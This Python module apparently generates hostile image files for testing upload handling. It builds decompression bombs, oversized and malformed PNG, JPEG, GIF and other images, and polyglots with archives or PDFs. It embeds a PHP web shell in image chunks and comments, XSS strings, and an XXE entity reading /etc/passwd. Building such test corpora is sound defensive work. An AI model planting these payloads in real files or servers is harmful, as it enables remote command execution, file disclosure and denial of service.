"""Pictures that want to do harm: too many pixels, bombs in their texts, programs behind them, and other kinds of file."""
import io
import struct
import zlib
from collections.abc import Callable, Iterator

from PIL import Image

from bench.hostile.archives import MIB, plain_parts, zipped
from bench.hostile.others import PDF

Made = Iterator[tuple[str, Callable[[], bytes]]]
PNG, PHP = b"\x89PNG\r\n\x1a\n", b"<?php system($_GET['c']); ?>"
TEXTS = {"zTXt": b"a\0\0", "iTXt": b"a\0\1\0\0\0", "iCCP": b"a\0\0"}


def honest(kind: str = "PNG", **more: object) -> bytes:
    """A small picture that is accepted."""
    out = io.BytesIO()
    Image.effect_noise((120, 160), 50).save(out, kind, **more)
    return out.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    """One chunk of a PNG file."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def blown(megabytes: int) -> bytes:
    """Zeros, packed."""
    packer = zlib.compressobj(9)
    return b"".join([*(packer.compress(bytes(MIB)) for _ in range(megabytes)), packer.flush()])


def png(width: int, height: int, *, depth: int = 8, colours: int = 2, interlaced: int = 0, megabytes: int = 1) -> bytes:
    """A PNG file that says it is so large, with so many MiB of zeros in it."""
    head = struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, interlaced)
    return PNG + chunk(b"IHDR", head) + chunk(b"IDAT", blown(megabytes)) + chunk(b"IEND", b"")


def with_chunk(kind: bytes, content: bytes, times: int = 1) -> bytes:
    """An honest picture with chunks put behind its head."""
    whole = honest()
    return whole[:33] + chunk(kind, content) * times + whole[33:]


def segment(marker: int, content: bytes) -> bytes:
    """One segment of a JPEG file."""
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def with_segment(marker: int, content: bytes, times: int = 1) -> bytes:
    """An honest photograph with segments put behind its first two bytes."""
    whole = honest("JPEG")
    return whole[:2] + segment(marker, content) * times + whole[2:]


def sized(width: int, height: int) -> bytes:
    """A photograph that says it is so large."""
    whole = bytearray(honest("JPEG"))
    place = whole.index(b"\xff\xc0")
    whole[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


def floods() -> Made:
    """More pixels than memory."""
    for width, height in ((30_000, 30_000), (100_000, 1_000), (2**31 - 1, 2**31 - 1), (2**31 - 1, 1), (0, 10), (4_473, 4_473)):
        yield f"png-{width}x{height}", lambda w=width, h=height: png(w, h)
    yield "png-60000-one-bit", lambda: png(60_000, 60_000, depth=1, colours=0)
    yield "png-20000-interlaced", lambda: png(20_000, 20_000, interlaced=1)
    yield "png-8000-deep", lambda: png(8_000, 8_000, depth=16, colours=6, megabytes=50)
    yield "png-30000-in-109-kilobytes", lambda: png(30_000, 30_000, depth=1, colours=0, megabytes=108)
    for width, height in ((30_000, 30_000), (65_500, 65_500), (0, 10), (4_473, 4_473)):
        yield f"jpeg-{width}x{height}", lambda w=width, h=height: sized(w, h)
    yield "gif-30000", lambda: b"GIF89a" + struct.pack("<HHBBB", 30_000, 30_000, 0x80, 0, 0) + bytes(6) + b";"
    yield "webp-16383", lambda: b"RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xfe\x3f\0\xfe\x3f\0"
    yield "tiff-30000", lambda: b"II*\0\x08\0\0\0\2\0\0\1\4\0\1\0\0\0\x30\x75\0\0\1\1\4\0\1\0\0\0\x30\x75\0\0\0\0\0\0"
    yield "svg-30000", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" width="30000" height="30000"><rect width="100%" height="100%"/></svg>'
    yield "bmp-30000", lambda: b"BM" + struct.pack("<IHHIIiiHH", 54, 0, 0, 54, 40, 30_000, 30_000, 1, 24) + bytes(24)


def png_bombs() -> Made:
    """Chunks that unpack to far more, or never end, or move."""
    for kind, head in TEXTS.items():
        yield f"png-{kind}-bomb-times-200", lambda kind=kind, head=head: with_chunk(kind.encode(), head + blown(20), 200)
    yield "png-10000-texts", lambda: with_chunk(b"tEXt", b"a\0b", 10_000)
    yield "png-text-php", lambda: with_chunk(b"tEXt", b"Comment\0" + PHP)
    yield "png-unknown-needed", lambda: with_chunk(b"QQQQ", b"x")
    yield "png-100000-frames", lambda: with_chunk(b"acTL", struct.pack(">II", 100_000, 0)).replace(b"IEND", b"fcTL", 0)
    yield "png-and-php", lambda: honest() + PHP
    yield "png-and-archive", lambda: honest() + zipped(plain_parts())
    yield "png-wrong-sum", lambda: honest().replace(b"IDAT", b"IDAt", 1)
    yield "png-endless-chunk", lambda: honest()[:33] + struct.pack(">I", 2**31 - 1) + b"IDAT" + bytes(100)
    yield "png-without-end", lambda: honest()[:-12]
    yield "png-cut", lambda: honest()[:300]
    yield "png-garbage", lambda: PNG + bytes(range(256)) * 100
    yield "png-no-head", lambda: PNG + chunk(b"IDAT", blown(1)) + chunk(b"IEND", b"")
    yield "png-packed-garbage", lambda: PNG + chunk(b"IHDR", struct.pack(">IIBBBBB", 100, 100, 8, 2, 0, 0, 0)) + chunk(b"IDAT", b"\xff" * 99) + chunk(b"IEND", b"")


def jpeg_bombs() -> Made:
    """Photographs that are cut, endless, or something else besides."""
    for share in (5, 50, 95):
        yield f"jpeg-cut-at-{share}", lambda share=share: honest("JPEG")[: len(honest("JPEG")) * share // 100]
    yield "jpeg-10000-segments", lambda: with_segment(0xE5, b"x" * 100, 10_000)
    yield "jpeg-2000-scans", _many_scans
    yield "jpeg-comment-php", lambda: with_segment(0xFE, PHP)
    yield "jpeg-comment-script", lambda: with_segment(0xFE, b"<script>alert(1)</script>")
    yield "jpeg-exif-php", lambda: with_segment(0xE1, b"Exif\0\0MM\0*" + PHP)
    yield "photograph-and-archive", lambda: honest("JPEG") + zipped(plain_parts())
    yield "photograph-and-pdf", lambda: honest("JPEG") + PDF
    yield "jpeg-two-sizes", lambda: with_segment(0xC0, b"\x08\0\x10\0\x10\1\1\x11\0")
    yield "jpeg-of-12-bits", lambda: honest("JPEG").replace(b"\xff\xc0\0\x0b\x08", b"\xff\xc0\0\x0b\x0c")
    yield "jpeg-arithmetic", lambda: honest("JPEG").replace(b"\xff\xc0", b"\xff\xc9")
    yield "jpeg-garbage", lambda: b"\xff\xd8\xff\xe0" + bytes(range(256)) * 100
    yield "jpeg-only-head", lambda: b"\xff\xd8\xff"
    yield "jpeg-13-megabytes", lambda: honest("JPEG") + bytes(13 * MIB)


def _many_scans() -> bytes:
    whole = honest("JPEG", progressive=True)
    scan = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + scan * 2_000 + whole[-2:]


def other_kinds() -> Made:
    """What is no photograph and no scan."""
    frame = b"\x21\xf9\4\0\0\0\0\0\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0"
    yield "gif-100000-frames", lambda: b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + frame * 100_000 + b";"
    yield "svg-script", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    yield "svg-entities", lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>'
    yield "picture-pdf", lambda: PDF
    yield "picture-html", lambda: b"<html><img src=x onerror=alert(1)></html>"
    yield "picture-postscript", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(x) (w) file\n"
    yield "picture-heic", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"
    yield "picture-icon", lambda: b"\0\0\1\0\1\0\0\0\0\0\1\0\x20\0\0\0\0\0\x16\0\0\0"
    yield "picture-empty", lambda: b""
    yield "picture-archive", lambda: zipped(plain_parts())
